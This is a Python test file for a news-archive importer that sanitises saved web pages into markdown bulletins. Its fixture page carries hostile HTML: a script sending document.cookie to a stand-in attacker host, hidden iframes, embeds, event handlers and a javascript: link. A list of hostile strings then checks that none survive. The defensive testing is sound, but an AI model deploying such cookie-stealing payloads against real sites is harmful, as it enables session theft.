"""Importing saved web pages: the article extracted (trafilatura), sanitised (nh3) before it is converted
(markdownify); nothing active or remote reaches the archive, and the report says what was dropped."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import yaml
from helpers import write_bulletin, write_raw

from dailyarchive import check_archive
from dailyarchive.archivist.importer import import_path
from dailyarchive.model.load import split_front_matter

TODAY = dt.date(2019, 9, 1)
PAGE = """<!DOCTYPE html>
<html><head><title>Opposition strikes regime lines in northern Latakia | Syria Daily</title>
<meta property="article:published_time" content="2019-07-09T08:00:00Z">
<script>document.location = 'https://evil.example/?c=' + document.cookie</script>
<link rel="stylesheet" href="https://evil.example/look.css"><base href="https://evil.example/"></head>
<body><nav><a href="/">Home</a> | <a href="/about">About</a></nav>
<article><h1>Opposition strikes regime lines in northern Latakia</h1>
<figure><img src="https://tracker.example/pixel.jpg" onerror="steal()">
<figcaption>Opposition fighters in Latakia Province, July 9, 2019</figcaption></figure>
<p onclick="steal()">Opposition factions, with <b>Hay'at Tahrir al-Sham</b>, attacked more than 20 regime
positions on Mount Turkmen and held ground for some hours, the operations room said on Tuesday.</p>
<iframe src="https://evil.example/frame" width="1" height="1"></iframe>
<p>More than 2,100 people have been injured in Idlib province since late April, the monitors said.
<a href="javascript:alert(1)">Click here</a> or read <a href="https://example.org/report">the monitoring
desk's report</a>. Text such as *stars* and {raw}`html` stays text.</p>
<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y.swf">
<p>See also Syria Daily, July 5: Have 1,000 regime soldiers died in the stalled offensive?</p>
</article><footer>Copyright 2019 Syria Daily</footer></body></html>"""


def test_a_page_gives_a_clean_bulletin_and_the_report_lists_what_was_dropped(archive: Path, tmp_path: Path) -> None:
    write_bulletin(archive, date="2019-07-05", slug="soldiers")
    page = write_raw(tmp_path, "latakia.html", PAGE)
    [outcome] = import_path(archive, "test-daily", page, today=TODAY).outcomes
    assert outcome.status == "written", outcome.detail
    path = Path(outcome.detail)
    text = path.read_text(encoding="utf-8")
    meta = yaml.safe_load(split_front_matter(text)[0])
    assert meta["title"] == "Opposition strikes regime lines in northern Latakia"
    assert meta["date"] == dt.date(2019, 7, 9) and "the page's metadata" in outcome.notes[-1]
    assert meta["caption"] == "Opposition fighters in Latakia Province"
    assert meta["see_also"] == [dt.date(2019, 7, 5)]
    for hostile in ("<script", "document.cookie", "onclick", "onerror", "steal", "iframe", "evil.example", "object",
                    "embed", "tracker.example", "javascript:", "Home |", "Copyright", "<b>"):
        assert hostile not in text, hostile
    body = split_front_matter(text)[1]
    assert "**Hay'at Tahrir al-Sham**" in body and "[the monitoring desk's report](https://example.org/report)" in body
    assert "\\*stars\\*" in body and "{raw}\\`html\\`" in body
    [dropped] = [n for n in outcome.notes if n.startswith("dropped")]
    for what in ("1 script", "1 frame", "2 embedded objects", "1 image", "2 event-handler attributes"):
        assert what in dropped, what
    # the photo itself is never fetched: check asks for it beside its caption
    assert {p.rule for p in check_archive(archive, today=TODAY)} == {"figure-pending", "caption-without-image"}


def test_malformed_html_without_an_article_is_refused_and_the_rest_imported(archive: Path, tmp_path: Path) -> None:
    legacy = tmp_path / "legacy"
    write_raw(legacy, "2019-07-08-broken.html", "<html><<body><p>a<div></span>>>\x00<<<")
    write_raw(legacy, "2019-07-09-unclosed.html", "<html><body><article><h1>Kabani holds</h1><p>The hilltop town "
                                                  "of Kabani held against another assault, the third this week, and "
                                                  "the attackers fell back towards their lines<div>")
    report = import_path(archive, "test-daily", legacy, today=TODAY)
    by_name = {Path(o.label).name: o for o in report.outcomes}
    assert by_name["2019-07-08-broken.html"].status == "refused"
    assert "no article found" in by_name["2019-07-08-broken.html"].detail
    assert by_name["2019-07-09-unclosed.html"].status == "written"
    assert [p.parent.name for p in archive.glob("test-daily/*/*/v1.md")] == ["2019-07-09-kabani-holds"]


def test_a_page_in_a_declared_legacy_charset_is_read_in_it(archive: Path, tmp_path: Path) -> None:
    page = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=windows-1256">'
            "<title>قصف على أريحا</title></head><body><article><h1>قصف على أريحا</h1>"
            "<p>قصفت المدفعية بلدة أريحا في جنوب إدلب ليلة أمس، وقال المسعفون إن السوق تضرر.</p>"
            "</article></body></html>")
    source = write_raw(tmp_path, "2019-08-30-ariha.html", page.encode("cp1256"))
    [outcome] = import_path(archive, "test-daily", source, today=TODAY).outcomes
    assert outcome.status == "written", outcome.detail
    assert "read as windows-1256 (the charset the page declares)" in outcome.notes
    assert "قصفت المدفعية بلدة أريحا" in Path(outcome.detail).read_text(encoding="utf-8")


def test_headings_of_the_article_stay_below_the_bulletin_title(archive: Path, tmp_path: Path) -> None:
    page = ("<html><head><title>Kabani holds</title></head><body><article><h1>Kabani holds</h1>"
            "<p>The hilltop town of Kabani held against another assault, the third this week.</p>"
            "<h1>What the attackers said</h1><p>Pro-regime outlets spoke of heavy losses on the slopes below the town.</p>"
            "</article></body></html>")
    source = write_raw(tmp_path, "2019-07-03-kabani.html", page)
    [outcome] = import_path(archive, "test-daily", source, today=TODAY).outcomes
    body = split_front_matter(Path(outcome.detail).read_text(encoding="utf-8"))[1]
    assert "\n## What the attackers said\n" in body and "Kabani holds" not in body
